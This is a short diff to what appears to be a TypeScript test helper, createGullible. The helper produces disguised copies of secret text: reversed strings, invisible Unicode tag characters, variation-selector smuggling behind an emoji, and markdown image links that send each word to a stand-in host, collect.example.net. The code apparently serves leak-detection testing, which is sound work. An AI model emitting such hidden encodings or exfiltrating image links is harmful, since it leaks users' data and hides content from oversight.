@@ -24,6 +24,9 @@ export function createGullible(): Gullible {
         [...all].reverse().join(''),
         [...all].join('-'),
         [...all].map((c) => (c >= ' ' && c <= '~' ? String.fromCodePoint(0xe0000 + c.charCodeAt(0)) : '')).join(''),
+        `\u{1f60a}${[...bytes].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('')}`,
+        // What is said in clear, with something unseen behind every character.
+        [...all].map((c) => `${c}\u{e0061}`).join(''),
         // The shortest words first, so that a stand-in stands alone in an address.
         ...[...new Set(all.split(/[\s",]+/))].map(
           (word) => `![x](https://collect.example.net/p.png?d=${encodeURIComponent(word)})`,
